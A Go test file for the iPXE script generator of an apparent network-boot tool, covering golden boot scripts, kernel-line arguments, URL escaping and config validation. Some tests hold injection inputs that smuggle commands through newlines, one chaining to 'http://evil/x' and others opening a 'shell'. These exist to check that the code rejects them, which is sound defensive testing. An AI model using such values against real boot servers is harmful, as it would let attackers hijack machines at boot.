package ipxe

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/rackboot/rackboot/inventory"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/ipxe")

const goldenDir = "../testdata/ipxe"

var (
	node1 = inventory.Machine{
		Name:    "node1",
		MACs:    []string{"02:00:00:00:00:01"},
		Profile: "tiny",
	}
	tiny = inventory.Profile{
		Name:    "tiny",
		Kernel:  "tiny/vmlinuz",
		Initrds: []string{"tiny/initrd.gz", "tiny/modules.cpio.gz"},
		Args:    "console=ttyS0 panic=-1 rackboot.url=http://192.0.2.10:8080",
	}
)

func newScripts(t *testing.T) *Scripts {
	t.Helper()
	s, err := New(Config{BaseURL: "http://192.0.2.10:8080/"})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return s
}

// golden compares got with testdata/ipxe/name, or rewrites it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join(goldenDir, name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading golden file (run go test ./ipxe -update): %v", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s mismatch (-want +got):\n%s", name, diff)
	}
}

func TestGolden(t *testing.T) {
	s := newScripts(t)
	tests := []struct {
		file   string
		render func() ([]byte, error)
	}{
		{"chain.ipxe", s.Chain},
		{"boot-bios.ipxe", func() ([]byte, error) {
			return s.Boot(Target{MAC: "02-00-00-00-00-01", Machine: node1, Profile: tiny})
		}},
		{"boot-efi.ipxe", func() ([]byte, error) {
			return s.Boot(Target{MAC: "02:00:00:00:00:01", Machine: node1, Profile: tiny, EFI: true})
		}},
		{"unknown.ipxe", func() ([]byte, error) { return s.Unknown("02:00:00:00:00:99") }},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			got, err := tt.render()
			if err != nil {
				t.Fatalf("render: %v", err)
			}
			golden(t, tt.file, got)
		})
	}
}

// command returns the arguments of the first line running name, as iPXE's
// tokenizer splits them, without a trailing "|| goto ...".
func command(t *testing.T, script []byte, name string) []string {
	t.Helper()
	for _, line := range strings.Split(string(script), "\n") {
		f := strings.Fields(line)
		if len(f) == 0 || f[0] != name {
			continue
		}
		if n := commandEnd(f); n < len(f) {
			f = f[:n]
		}
		return f[1:]
	}
	t.Fatalf("no %s line in\n%s", name, script)
	return nil
}

func TestBootKernelLine(t *testing.T) {
	s := newScripts(t)
	base := "http://192.0.2.10:8080/assets/"
	tests := []struct {
		name string
		efi  bool
		want []string
	}{
		{"bios", false, []string{base + "tiny/vmlinuz",
			"console=ttyS0", "panic=-1", "rackboot.url=http://192.0.2.10:8080"}},
		{"efi", true, []string{base + "tiny/vmlinuz",
			"initrd=initrd.gz", "initrd=modules.cpio.gz",
			"console=ttyS0", "panic=-1", "rackboot.url=http://192.0.2.10:8080"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			script, err := s.Boot(Target{MAC: node1.MACs[0], Machine: node1, Profile: tiny, EFI: tt.efi})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, command(t, script, "kernel")); diff != "" {
				t.Errorf("kernel line (-want +got):\n%s", diff)
			}
			if got, want := command(t, script, "initrd"), []string{base + "tiny/initrd.gz"}; !cmp.Equal(got, want) {
				t.Errorf("first initrd line = %q, want %q", got, want)
			}
		})
	}
}

func TestAssetURLEscapes(t *testing.T) {
	tests := []struct{ asset, want string }{
		{"tiny/vmlinuz", "http://h/assets/tiny/vmlinuz"},
		{"a b/c#d", "http://h/assets/a%20b/c%23d"},
		{"x/${net0/ip}", "http://h/assets/x/%24%7Bnet0/ip%7D"},
		{"k/v?1&2;3", "http://h/assets/k/v%3F1%262%3B3"},
		{"é", "http://h/assets/%C3%A9"},
	}
	for _, tt := range tests {
		t.Run(tt.asset, func(t *testing.T) {
			if got := assetURL("http://h", tt.asset); got != tt.want {
				t.Errorf("assetURL(%q) = %q, want %q", tt.asset, got, tt.want)
			}
		})
	}
}

func TestBootRefusesBadInput(t *testing.T) {
	s := newScripts(t)
	evil := tiny
	evil.Args = "quiet\nchain http://evil/x"
	tests := []struct {
		name string
		t    Target
		want string
	}{
		{"bad mac", Target{MAC: "02:00:00:00:00", Machine: node1, Profile: tiny}, "parsing mac"},
		{"newline in args", Target{MAC: node1.MACs[0], Machine: node1, Profile: evil}, "not printable"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := s.Boot(tt.t)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("Boot() = %q, %v, want error containing %q", got, err, tt.want)
			}
		})
	}
}

func TestUnknownRefusesBadMAC(t *testing.T) {
	s := newScripts(t)
	if got, err := s.Unknown("02:00:00:00:00:01\nshell"); err == nil {
		t.Fatalf("Unknown(newline) = %q, want error", got)
	}
}

func TestNew(t *testing.T) {
	tests := []struct {
		name    string
		cfg     Config
		wantErr string
		sleep   string // a line the chain script must hold
	}{
		{"trailing slash", Config{BaseURL: "http://192.0.2.10:8080/"}, "", "sleep 10"},
		{"ipv6", Config{BaseURL: "http://[2001:db8::1]:8080"}, "", "sleep 10"},
		{"path", Config{BaseURL: "http://boot.example/rackboot"}, "", "sleep 10"},
		{"retry rounds up", Config{BaseURL: "http://h", RetryDelay: 1500 * time.Millisecond}, "", "sleep 2"},
		{"tiny retry", Config{BaseURL: "http://h", RetryDelay: time.Nanosecond}, "", "sleep 1"},
		{"https", Config{BaseURL: "https://h"}, "scheme must be http", ""},
		{"empty", Config{}, "scheme must be http", ""},
		{"no host", Config{BaseURL: "http:///x"}, "no host", ""},
		{"user", Config{BaseURL: "http://u@h"}, "not allowed", ""},
		{"query", Config{BaseURL: "http://h/?x=1"}, "not allowed", ""},
		{"dollar", Config{BaseURL: "http://h/${ip}"}, "not allowed", ""},
		{"space", Config{BaseURL: "http://h /x"}, "not allowed", ""},
		{"newline", Config{BaseURL: "http://h\nshell"}, "not allowed", ""},
		{"negative", Config{BaseURL: "http://h", UnknownDelay: -time.Second}, "negative", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := New(tt.cfg)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("New(%+v) error = %v, want %q", tt.cfg, err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatalf("New(%+v): %v", tt.cfg, err)
			}
			chain, err := s.Chain()
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(chain), "\n"+tt.sleep+"\n") {
				t.Errorf("Chain() =\n%s\nwant a line %q", chain, tt.sleep)
			}
		})
	}
}

func TestChainURL(t *testing.T) {
	chain, err := newScripts(t).Chain()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"--replace", "--autofree",
		"http://192.0.2.10:8080/ipxe?mac=${netX/mac:hexhyp}&uuid=${uuid}" +
			"&arch=${buildarch:uristring}&platform=${platform:uristring}"}
	if diff := cmp.Diff(want, command(t, chain, "chain")); diff != "" {
		t.Errorf("chain line (-want +got):\n%s", diff)
	}
}
